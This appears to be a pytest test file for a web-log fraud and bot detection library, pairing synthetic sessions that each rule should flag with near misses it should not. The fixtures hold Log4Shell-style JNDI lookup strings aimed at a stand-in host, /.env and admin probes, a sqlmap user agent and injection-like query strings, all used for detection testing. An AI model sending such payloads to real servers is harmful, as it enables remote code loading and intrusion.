"""Evidence: each row fires on a session made for it and stays quiet on its near miss."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import types
from importlib.metadata import EntryPoint
from typing import TYPE_CHECKING

import pytest
from typer.testing import CliRunner

import fraudlog as fl
from conftest import ROOT, make_events
from fraudlog.cli import app
from fraudlog.detecting import EVIDENCE
from fraudlog.detecting.evidence import BUILT_IN, Evidence, fired, presumed_human, when
from fraudlog.detecting.evidence.document import evidence_as_dicts, evidence_page
from fraudlog.detecting.evidence.installed import installed_evidence, joined
from fraudlog.errors import ConfigError
from fraudlog.sessions import FEATURES, feature_names

if TYPE_CHECKING:
    import pandas as pd

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36"
)
YANDEX = "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"
GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
SCRIPT = "python-requests/2.31"
PAGES = [{"path": f"/{i}", "at": i * 20 + i % 3 * 5} for i in range(5)]
REFERRED = {"referrer": "http://site.example/"}
ASSET = {"path": "/a.css"}
LOGIN = {"path": "/login", "method": "POST", **REFERRED}
FAILED = LOGIN | {"status": 401}
PAYMENT = {"path": "/checkout", "method": "POST", **REFERRED}
CART = {"path": "/cart", "method": "POST", **REFERRED}
CODE = {"path": "/coupon", "method": "POST", **REFERRED}
COMMENT = {"path": "/comments/add", "method": "POST", **REFERRED}
BLIND = {"path": "/comments/add", "method": "POST"}
SIGNUP = {"path": "/signup", "method": "POST", **REFERRED}
CAPTCHA = {"path": "/captcha", "method": "POST", **REFERRED}
PARTNER = {"path": "/api/v1/stock", "user_agent": SCRIPT, "user": "partner"}
HINTS = {
    "user_agent": CHROME,
    "ch_ua": '"Chromium";v="128", "Google Chrome";v="128", "Not;A=Brand";v="24"',
    "ch_platform": '"Windows"',
    "ch_mobile": "?0",
}


def series(row, n, every=20, **more):
    """One request n times, `every` seconds apart; {i} in the path is its number."""
    rows = [row | more | {"at": i * every + i % 3} for i in range(n)]
    return [one | {"path": one.get("path", "/").replace("{i}", str(i))} for i, one in enumerate(rows)]


def by_accounts(row, n, **more):
    """The same request for n accounts, within one session."""
    return [row | more | {"session_token": "t", "user": f"u{i}"} for i in range(n)]


CASES = {
    # --- scanning
    "PROBE_PATHS": ([{"path": "/.env"}], [{"path": "/environment"}]),
    "PROBE_SWEEP": ([{"path": "/.env"}, {"path": "/wp-login.php", "status": 404}], [{"path": "/.env"}]),
    "ADMIN_GUESSED": ([{"path": "/admin/", "status": 404}], [{"path": "/admin/", "status": 200}]),
    "ADMIN_SWEEP": (
        [{"path": "/admin/", "status": 404}, {"path": "/login", "status": 404}],
        [{"path": "/admin/", "status": 404}, {"path": "/login", "status": 200}],
    ),
    "NOT_FOUND_SWEEP": (
        [{"path": f"/{i}", "status": 404} for i in range(4)],
        [{"path": f"/people/{i}/avatar", "status": 404} for i in range(4)],
    ),
    "NOT_FOUND_TREE": (
        series({"path": "/{i}", "status": 404}, 15) + [{}] * 20,
        series({"path": "/a/{i}.png", "status": 404}, 15) + [{}] * 20,
    ),
    "MALFORMED_REQUESTS": ([{"method": None, "path": r"\x16\x03"}], [{"method": "OPTIONS", "path": "*"}]),
    "ODD_METHODS": ([{"method": "TRACE"}], [{"method": "OPTIONS"}]),
    "LOOKUP_IN_HEADERS": (
        [{"referrer": "${jndi:${lower:l}dap://a.example/b}"}, {"user_agent": "${${::-j}ndi:rmi://a.example}"}],
        [{"referrer": "http://site.example/users/${name}"}],
    ),
    "VERSION_FILES": ([{"path": "/readme.html"}], [{"path": "/readme"}]),
    "MARKUP_IN_QUERIES": (
        [{"path": "/a", "query": "q=%3Cb%3E"}, {"path": "/b", "query": "q=%27a"}],
        [{"path": "/a", "query": "q=%3Cb%3E"}, {"path": "/b", "query": "q=a"}],
    ),
    "LONG_QUERIES_REFUSED": (
        [{"query": "a" * 1500, "status": 414}],
        [{"query": "a" * 1500}],
    ),
    "ERRORS_PROVOKED": (
        series({"path": "/{i}", "status": 500}, 3),
        series({"path": "/{i}", "status": 500}, 2) + [{}] * 3,
    ),
    "HEAD_SWEEP": ([{"method": "HEAD"}] * 3, [{"method": "HEAD", "path": "/health"}] * 3),
    "REFUSED_SWEEP": (
        series({"path": "/{i}", "status": 403}, 6),
        series({"path": "/same", "status": 403}, 6),
    ),
    "SCANNER_AGENT": ([{"user_agent": "sqlmap/1.7"}], [{}]),
    # --- harvesting and flooding
    "PAGES_WITHOUT_ASSETS": (PAGES, [*PAGES, {"path": "/a.css", "at": 101}]),
    "BARE_PAGES_IN_HASTE": (
        [{"path": f"/{i}", "at": i * 20} for i in range(10)],
        [{"path": f"/{i}", "at": i * 20 + (i > 4) * 60} for i in range(10)],
    ),
    "BARE_PAGES": (series({"path": "/{i}"}, 20, every=90), series({"path": "/"}, 20, every=90)),
    "PAGE_BURST": (
        [{"path": f"/{i}"} for i in range(6)],
        [{"path": f"/book/{i}", "status": (200, 200, 304)[i % 3]} for i in range(6)],
    ),
    "PAGE_STORM": (
        [{"path": f"/{i}", "at": i // 2} for i in range(12)],
        [{"path": f"/{i}", "at": i * 2} for i in range(12)],
    ),
    "MANY_PAGES": (
        series({"path": "/{i}"}, 40, every=90),
        series({"path": "/{i}"}, 40, every=90) + series(ASSET, 20),
    ),
    "PAGES_ON_A_TIMER": (
        [row for i in range(12) for row in ({"path": f"/{i}", "at": i * 30}, {**ASSET, "at": i * 30 + 1})],
        [row for i in range(12) for row in ({"path": f"/{i}", "at": i * i * 9}, {**ASSET, "at": i * i * 9 + 1})],
    ),
    "PAGES_LIKE_CLOCKWORK": (
        [row for i in range(10) for row in ({"path": f"/{i}", "at": i * 30}, {**ASSET, "at": i * 30 + 1})],
        [row for i in range(10) for row in ({"path": f"/{i}", "at": i * 30 + i % 3 * 8}, {**ASSET, "at": i * 30 + 24})],
    ),
    "PAGES_STEADILY": (
        [{"path": f"/{i}", "at": i * 30 + i % 3 * 5} for i in range(20)],
        [{"path": f"/{i}", "at": i * i * 2} for i in range(20)],
    ),
    "SCRIPT_READS_PAGES": (
        [{"path": f"/{i}", "user_agent": SCRIPT} for i in range(10)],
        [{"path": f"/api/{i}", "user_agent": SCRIPT} for i in range(10)],
    ),
    "TIMER": (
        [{"path": f"/{i}", "at": i * 30} for i in range(6)],
        [{"path": "/health", "at": i * 30} for i in range(6)],
    ),
    "TIMER_WITH_PAUSES": (
        [{"path": f"/{i}", "at": i * 100 + i % 4 * 5} for i in range(12)],
        [{"path": f"/{i}", "at": i * 100 + i % 4 * 40} for i in range(12)],
    ),
    "SAME_PATH_AGAIN": ([{"at": i * i} for i in range(6)], [{"path": f"/{i % 3}", "at": i * i} for i in range(6)]),
    "CATALOGUE_WALK": (
        series({"path": "/shoes-{i}"}, 40),
        series({"path": "/shoes-{i}"}, 40) + series(ASSET, 10),
    ),
    "NUMBERS_COUNTED": (
        series({"path": "/item/{i}"}, 9),
        series({"path": "/item/{i}"}, 6) + series({"path": "/item/{i}", "status": 304}, 9),
    ),
    "NUMBERS_WALKED": (
        series({"path": "/item/{i}"}, 16),
        [{"path": f"/item/{i * 7 % 31}", "at": i * 9} for i in range(20)],
    ),
    "SEARCH_FLOOD": (
        series({"path": "/search", "query": "q=a"}, 60),
        series({"path": "/search", "query": "q=a"}, 60) + series(ASSET, 6),
    ),
    "ONE_PATH_FLOOD": (series({"path": "/dear"}, 60, every=3), series({"path": "/news"}, 60, every=60)),
    "FAILURES_IGNORED": (
        series({"path": "/dear"}, 48) + series({"path": "/dear", "status": 503}, 12),
        series({"path": "/dear"}, 12) + series({"path": "/dear", "status": 503}, 12),
    ),
    "PAGES_WITHOUT_PAUSE": (
        series({"path": "/{i}"}, 25, every=13),
        [*series({"path": "/{i}"}, 25, every=13), {"at": 900}],
    ),
    "SEARCHES_WITHOUT_PAUSE": (
        series({"path": "/search", "query": "q=a"}, 15),
        [*series({"path": "/search", "query": "q=a"}, 15), ASSET],
    ),
    "EXPORT_SERIES": (
        series({"path": "/export"}, 6),
        series({"path": "/data/{i}.sql"}, 6) + series({"path": "/data/{i}.sql", "status": 304}, 2),
    ),
    "API_WITHOUT_PAGE": (
        series({"path": "/api/item/{i}"}, 15),
        [{}, *series({"path": "/api/item/{i}"}, 15)],
    ),
    "BROWSER_READS_ROBOTS": ([{"path": "/robots.txt"}], [{"path": "/robots.txt", "user_agent": GOOGLE}]),
    "REQUEST_BURST": ([{"at": 1}] * 25, [{"at": 1}] * 8 + [{"at": 1, **ASSET}] * 20),
    "REQUEST_FLOOD": ([{"at": i // 5} for i in range(240)], [{"at": i // 3} for i in range(240)]),
    "COSTLY_REQUESTS": (
        series({"duration_s": 3.0}, 15, every=5),
        series({"duration_s": 0.5}, 15, every=5),
    ),
    "LIMIT_IGNORED": ([{"status": 429}] * 5, [{"status": 429}] * 4),
    "PREFIX_FLOOD": ([{"at": i // 10} for i in range(3000)], [{"at": i // 4} for i in range(2000)]),
    # --- logins
    "LOGIN_FAILURES": ([FAILED] * 5, [FAILED] * 4),
    "LOGIN_GUESSING": (series(FAILED, 12), [*series(FAILED, 11), LOGIN]),
    "LOGIN_BURST": ([FAILED] + [LOGIN] * 9, series(FAILED, 10)),
    "LOGIN_REPEATED": ([LOGIN] * 5, [*[LOGIN] * 5, {"path": "/account"}]),
    "ACCOUNTS_TRIED": (by_accounts(FAILED, 3), by_accounts(FAILED, 2)),
    "ONLY_FAILED_LOGINS": ([FAILED] * 2, [FAILED] * 2 + [ASSET]),
    "LOGINS_WITHOUT_PAGE": ([FAILED] * 3, [{}, *[FAILED] * 3]),
    "PREFIX_LOGIN_FAILURES": (
        [FAILED | {"client_ip": f"203.0.113.{i}", "user_agent": f"Mozilla/5.0 Firefox/{i}"} for i in range(15)],
        [FAILED | {"client_ip": f"203.0.{i}.9", "user_agent": f"Mozilla/5.0 Firefox/{i}"} for i in range(15)],
    ),
    "RESET_SERIES": (
        series({"path": "/password/reset"}, 6),
        series({"path": "/password/reset"}, 5),
    ),
    "CAPTCHA_SERIES": (series(CAPTCHA, 8), series(CAPTCHA, 7)),
    "CAPTCHA_TOO_QUICK": ([CAPTCHA] * 3, series(CAPTCHA, 3)),
    "CAPTCHA_WRONG": (series(CAPTCHA, 4, status=400), series(CAPTCHA, 3, status=400)),
    "SIGNUP_SERIES": (series(SIGNUP, 4), series(SIGNUP, 3)),
    "SIGNUP_BURST": ([SIGNUP] * 5, series(SIGNUP, 5)),
    "SIGNUP_WITHOUT_PAGE": ([SIGNUP], [{}, ASSET, SIGNUP]),
    "DEVICE_FARM": (
        [{"device_id": "d", "user": f"u{i}"} for i in range(6)],
        [{"device_id": f"d{i}", "user": f"u{i}"} for i in range(6)],
    ),
    "ACCOUNTS_READ": (
        [{"path": "/account", "user": f"u{i % 8}"} for i in range(16)],
        [{"path": "/account", "user": f"u{i % 7}"} for i in range(16)],
    ),
    "ACCOUNT_PATHS": (
        series({"path": "/account/{i}", "user": "ann"}, 15),
        series({"path": "/account/7", "user": "ann"}, 15),
    ),
    "ACCOUNT_SPEED": (
        [
            {"user": "ann", "country": "FR"},
            {"user": "ann", "country": "JP", "at": 900, "user_agent": CHROME},
        ],
        [{"user": "ann", "country": "FR"}, {"user": "ann", "country": "JP", "at": 900}],
    ),
    "ACCOUNT_COUNTRIES": (
        [{"user": "ann", "country": country} for country in ("FR", "DE", "PL")],
        [{"user": "ann", "country": country} for country in ("FR", "DE", "FR")],
    ),
    "ACCOUNT_PREFIXES": (
        [{"user": "ann", "client_ip": f"203.0.{i}.9"} for i in range(8)],
        [{"user": "ann", "client_ip": f"203.0.113.{i}"} for i in range(8)],
    ),
    "NEW_DEVICE_ABROAD": (
        [{"user": "ann", "country": "FR"}, {"user": "ann", "country": "DE", "user_agent": CHROME}],
        [{"user": "ann", "country": "FR"}, {"user": "ann", "country": "FR", "user_agent": CHROME}],
    ),
    "SESSION_HANDED_ON": (
        [
            {"session_token": "t"},
            {"session_token": "t", "client_ip": "198.51.100.7", "user_agent": CHROME},
        ],
        [{"user": "ann"}, {"user": "ann", "client_ip": "198.51.100.7", "user_agent": CHROME}],
    ),
    # --- money, goods and counts
    "CARDS_REFUSED": (series(PAYMENT, 4, status=402), series(PAYMENT, 3, status=402)),
    "CARD_SERIES": (series(PAYMENT, 8), series(PAYMENT, 7)),
    "PAYMENT_BURST": ([PAYMENT] * 8, series(PAYMENT, 8)),
    "PAYMENT_WITHOUT_SHOP": ([PAYMENT] * 2, [{"path": "/cart"}, *[PAYMENT] * 2]),
    "CODES_REFUSED": (series(CODE, 5, status=404), series(CODE, 4, status=404)),
    "CODE_SERIES": (series(CODE, 12), series(CODE, 11)),
    "CHECKOUT_TOO_QUICK": ([CART, PAYMENT], [CART, PAYMENT | {"at": 30}]),
    "CART_BURST": ([CART] * 8, series(CART, 8)),
    "CART_HOARDING": (series(CART, 12), [*series(CART, 12), PAYMENT]),
    "CART_WITHOUT_SHOP": (series(CART, 4), [{}, *series(CART, 4)]),
    "AD_CLICKS": (
        [{}, ASSET, *series({"path": "/adclick"}, 5)],
        [{}, ASSET, *series({"path": "/adclick"}, 4)],
    ),
    "AD_CLICKS_ALONE": (
        series({"path": "/adclick"}, 3),
        [ASSET, *series({"path": "/adclick"}, 3)],
    ),
    "AD_CLICK_SERIES": (series({"path": "/adclick"}, 12), series({"path": "/adclick"}, 11)),
    "VOTES_REPEATED": (series({"path": "/post/1/vote"}, 4), series({"path": "/post/{i}/vote"}, 4)),
    "VOTES_ALONE": (series({"path": "/post/{i}/vote"}, 4), [ASSET, *series({"path": "/post/{i}/vote"}, 4)]),
    "BLIND_POST": ([BLIND] * 2, [*PAGES, BLIND, BLIND]),
    "FORMS_ALONE": ([COMMENT] * 3, [*[COMMENT] * 3, *PAGES[:3]]),
    "FORM_SERIES": (
        series(COMMENT | {"path": "/comments/{i}"}, 10),
        series(COMMENT | {"path": "/comments/{i}"}, 10) + series({"path": "/{i}"}, 20),
    ),
    "POST_SERIES": (series(COMMENT, 8), series(COMMENT, 8) + series({"path": "/thread"}, 20)),
    "POST_SERIES_LONG": (series(COMMENT, 25), series(COMMENT | {"path": "/comments/{i}"}, 25)),
    "COMMENT_SERIES": (series(COMMENT, 6), series(COMMENT, 5)),
    "FORM_FLOOD": ([COMMENT] * 6, [*[COMMENT] * 6, ASSET]),
    # --- claims
    "HEADLESS_AGENT": ([{"user_agent": "Mozilla/5.0 HeadlessChrome/120.0.0.0"}], [{}]),
    "SCRIPT_AGENT": ([{"user_agent": SCRIPT}], [{"user_agent": SCRIPT, "path": "/health"}]),
    "AGENT_MISSING": ([{"user_agent": None}], [{}]),
    "CRAWLER_FAKE": (
        [{"user_agent": GOOGLE, "client_ip": "8.8.4.4"}],
        [{"user_agent": GOOGLE, "client_ip": "66.249.73.135"}],
    ),
    "CRAWLER_UNVERIFIED": ([{"user_agent": YANDEX}], [{"user_agent": "FeedBurner/1.0 (http://www.FeedBurner.com)"}]),
    "LANGUAGE_MISSING": ([{"language": None}], [{"language": "fr"}]),
    "LANGUAGE_MALFORMED": ([{"language": "en-US;;q=9"}], [{"language": "en-US,en;q=0.9"}]),
    "AGENT_IMPOSSIBLE": (
        [{"user_agent": CHROME.replace("NT 10.0", "NT 7.5")}],
        [{"user_agent": CHROME}],
    ),
    "HINTS_DISAGREE": ([HINTS | {"ch_platform": '"Linux"'}], [HINTS]),
    "HINTS_MALFORMED": ([HINTS | {"ch_ua": '"Chromium'}], [HINTS]),
    "HINTS_MISSING": ([HINTS | {"ch_ua": None}] * 2 + [HINTS], [HINTS] * 2),
    "BROWSER_OUTDATED": ([{"browser_age": 60.0}], [{"browser_age": 3.0}]),
    "AGENT_ROTATION": (
        [{"session_token": "t", "user_agent": f"Mozilla/5.0 Firefox/{i}"} for i in range(5)],
        [{"session_token": "t", "user_agent": f"Mozilla/5.0 Firefox/{i % 2}"} for i in range(5)],
    ),
    "LANGUAGE_SWITCHED": (
        [{"user": "ann", "language": language} for language in ("en", "ru", "en", "zh")],
        [{"user": "ann", "language": language} for language in ("en", "en", "ru", "ru")],
    ),
    "TLS_UNLIKE_AGENT": (
        [{"tls_fingerprint": f"t{i}"} for i in range(3)],
        [{"tls_fingerprint": "t1"} for i in range(3)],
    ),
    "BROWSER_IN_HOSTING": ([{"is_hosting": True}] * 3, [{"is_hosting": False}] * 3),
    "TOR_AT_THE_DOOR": ([FAILED | {"is_tor": True}], [{"is_tor": True}]),
}


def enriched(rows) -> pd.DataFrame:
    """Events with what a list of networks and the site's mix would add."""
    events = make_events(*rows)
    known = [name for name in ("browser_age", "is_hosting", "is_tor") if name in events]
    return fl.enrich(events.drop(columns=known)).assign(**events[known]) if known else events


def codes(rows) -> set[str]:
    hits = fired(fl.build_sessions(enriched(rows))).any(axis=0)
    return {row.code for row, hit in zip(EVIDENCE, hits, strict=True) if hit}


@pytest.mark.parametrize("code", [row.code for row in EVIDENCE])
def test_evidence_fires(code):
    """On a session made for it."""
    assert code in codes(CASES[code][0])


@pytest.mark.parametrize("code", [row.code for row in EVIDENCE])
def test_evidence_stays_quiet(code):
    """On its near miss."""
    assert code not in codes(CASES[code][1])


def test_evidence_abstains_where_a_feature_is_unknown():
    """A log without languages does not accuse every browser of sending none."""
    sessions = fl.build_sessions(make_events({}).drop(columns="language"))
    assert not fired(sessions).any()


def test_nothing_speaks_against_a_verified_crawler():
    """It reads fast, loads no assets and asks for paths that are gone: that is its work."""
    rows = [{"path": f"/{i}", "status": 404, "user_agent": GOOGLE, "client_ip": "66.249.73.135"} for i in range(9)]
    assert codes(rows) == set()
    sessions = fl.build_sessions(make_events(*rows))
    assert not presumed_human(sessions).any()


def test_no_agent_rule_decides_alone():
    """What a client merely says of itself stays below the threshold of a challenge; the class refuses more."""
    assert all(row.weight < fl.Policy().challenge_at for row in EVIDENCE if row.spoofable)
    with pytest.raises(ConfigError, match="weight"):
        Evidence("LIAR", "lies", ("OAT-011",), 0.6, when("requests >= 1"), spoofable=True)


def test_a_row_on_what_the_agent_says_is_marked_spoofable():
    """Whoever writes a row on spoofable features alone must say so, or it could decide by a lie."""
    claims = {row.name for row in FEATURES if row.spoofable and row.family in ("identity", "population")}
    excused = {"SESSION_HANDED_ON", "CRAWLER_FAKE", "TLS_UNLIKE_AGENT"}
    for row in EVIDENCE:
        if {condition.feature for condition in row.conditions} - {"requests", "api_client_share"} <= claims:
            assert row.spoofable or row.code in excused, row.code


def test_every_threat_that_a_log_can_show_has_evidence():
    """Directly, or by the map of endpoints."""
    shown = {1, 2, 3, 4, 5, 7, 8, 9, 10, 11, 14, 15, 16, 17, 18, 19, 20, 21}
    assert {f"OAT-{n:03}" for n in shown} <= {oat for row in EVIDENCE for oat in row.oats}
    assert len(EVIDENCE) >= 40
    assert set(CASES) == {row.code for row in BUILT_IN}


def test_a_row_looks_at_the_suspicious_end_of_its_feature():
    """What a row is about, its first condition, lies where the catalogue says that the feature is suspicious."""
    sides = {feature.name: feature.suspicious for feature in FEATURES}
    for row in EVIDENCE:
        first = row.conditions[0]
        wrong = "low" if first.operator == ">=" else "high"
        assert sides[first.feature] != wrong, row.code


@pytest.mark.parametrize(
    ("wrong", "said"),
    [
        ({"code": "lower"}, "code"),
        ({"oats": ("OAT-099",)}, "oats"),
        ({"oats": ()}, "oats"),
        ({"weight": 0.0}, "weight"),
        ({"confidence": 2.0}, "confidence"),
        ({"conditions": ()}, "conditions"),
    ],
)
def test_a_row_out_of_form_is_refused(wrong, said):
    """The message names the row and what is wrong."""
    good = {"code": "ROW", "sentence": "s", "oats": ("OAT-011",), "weight": 0.3, "conditions": when("requests >= 1")}
    with pytest.raises(ConfigError, match=f"evidence .*{said}"):
        Evidence(**(good | wrong))


def test_a_condition_is_a_feature_an_operator_and_a_number():
    """Nothing else is read."""
    with pytest.raises(ConfigError, match="write a feature"):
        when("requests > 3")


def test_the_page_is_generated_from_the_table():
    """Run `fraudlog evidence --markdown > docs/evidence.md` after a change."""
    assert (ROOT / "docs" / "evidence.md").read_text("utf-8") == evidence_page() + "\n"
    assert CliRunner().invoke(app, ["evidence", "--markdown"]).stdout == evidence_page() + "\n"


def test_the_verb_prints_what_is_asked_for():
    """All, a family, a threat, or one by code; a typing mistake must not print an empty table."""
    printed = CliRunner().invoke(app, ["evidence", "--json", "OAT-009"]).stdout
    assert json.loads(printed) == [row for row in evidence_as_dicts() if "OAT-009" in row["oats"]]
    assert "CAPTCHA_SERIES" in CliRunner().invoke(app, ["evidence", "logins"], terminal_width=200).stdout
    result = CliRunner().invoke(app, ["evidence", "OAT-9"])
    assert "no evidence OAT-9; families: scanning" in str(result.exception)


# --- evidence of other packages --------------------------------------------------------------------------------------
PYPROJECT = """
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[project]
name = "shop-fraud"
version = "1"
[project.entry-points."fraudlog.evidence"]
shop = "shop_fraud:ROWS"
"""
ROWS = """
from fraudlog.detecting import Evidence
from fraudlog.detecting.evidence import when
ROWS = [Evidence("SHOP_RULE", "asked {value} times", ("OAT-011",), 0.3, when("requests >= 2"))]
"""
USE = """
import sys; sys.path.insert(0, sys.argv[1])
import fraudlog as fl
from conftest import make_events
from fraudlog.detecting import EVIDENCE
from fraudlog.detecting.evidence import fired
hits = fired(fl.build_sessions(make_events({}, {})))[0]
print([row.code for row, hit in zip(EVIDENCE, hits) if hit], EVIDENCE[-1].code)
"""


def install(folder, rows):
    """Build and install a tiny distribution, as any other."""
    source = folder / "source"
    (source / "shop_fraud").mkdir(parents=True)
    (source / "pyproject.toml").write_text(PYPROJECT)
    (source / "shop_fraud" / "__init__.py").write_text(rows)
    pip = [sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-build-isolation", "--no-index"]
    subprocess.run([*pip, "--target", str(folder / "site"), str(source)], check=True, capture_output=True)
    environment = os.environ | {"PYTHONPATH": os.pathsep.join([str(folder / "site"), *sys.path])}
    tests = str(ROOT / "tests")
    return subprocess.run(
        [sys.executable, "-c", USE, tests], env=environment, capture_output=True, text=True, check=False
    )


def test_an_installed_package_brings_evidence(tmp_path):
    """By its entry point alone: nothing of fraudlog is told of it."""
    pytest.importorskip("hatchling")
    assert install(tmp_path, ROWS).stdout.split() == ["['SHOP_RULE']", "SHOP_RULE"]


@pytest.mark.parametrize(
    ("rows", "said"),
    [
        (ROWS.replace("SHOP_RULE", "PROBE_PATHS"), "PROBE_PATHS stands twice"),
        (ROWS.replace("requests >=", "requsts >="), "requsts, which no feature is called"),
        ("ROWS = ['a']", "must be Evidence"),
        ("import nothing_of_this_name", "can't be loaded"),
    ],
)
def test_a_package_with_a_mistake_is_told_so(rows, said, monkeypatch):
    """Loudly, and by its name: evidence that silently does not speak protects nobody."""
    point = EntryPoint("shop", "shop_fraud:ROWS", "fraudlog.evidence")
    module = types.ModuleType("shop_fraud")

    def load(_):
        exec(rows, module.__dict__)  # noqa: S102 -- the test's own text
        return module.ROWS

    monkeypatch.setattr(EntryPoint, "load", load)
    monkeypatch.setattr("fraudlog.detecting.evidence.installed.entry_points", lambda group: [point])  # noqa: ARG005 -- as called
    with pytest.raises(ConfigError, match=said):
        joined(BUILT_IN, installed_evidence())


def test_rows_are_well_formed():
    """Codes are unique; conditions name features; OAT ids, weights and sentences have their form."""
    features = set(feature_names())
    assert all(condition.feature in features for row in EVIDENCE for condition in row.conditions)
    assert len({row.code for row in EVIDENCE}) == len(EVIDENCE)
    for row in EVIDENCE:
        assert row.oat in {f"OAT-{n:03}" for n in range(1, 22)}
        assert 0 < row.weight < 1
        assert row.sentence.format(value=1, percent="1 %")


def test_presumed_human_leaves_out_programs_and_suspects():
    """A browser is presumed human, a feed reader and a scanner are not."""
    events = make_events(
        {}, {"user_agent": "Tiny Tiny RSS/1.11 (http://tt-rss.org/)"}, {"path": "/.env", "client_ip": "198.51.100.7"}
    )
    sessions = fl.build_sessions(events)
    assert (
        presumed_human(sessions).tolist()
        == (sessions["user_agent"].eq(FIREFOX) & sessions["probe_requests"].eq(0)).tolist()
    )
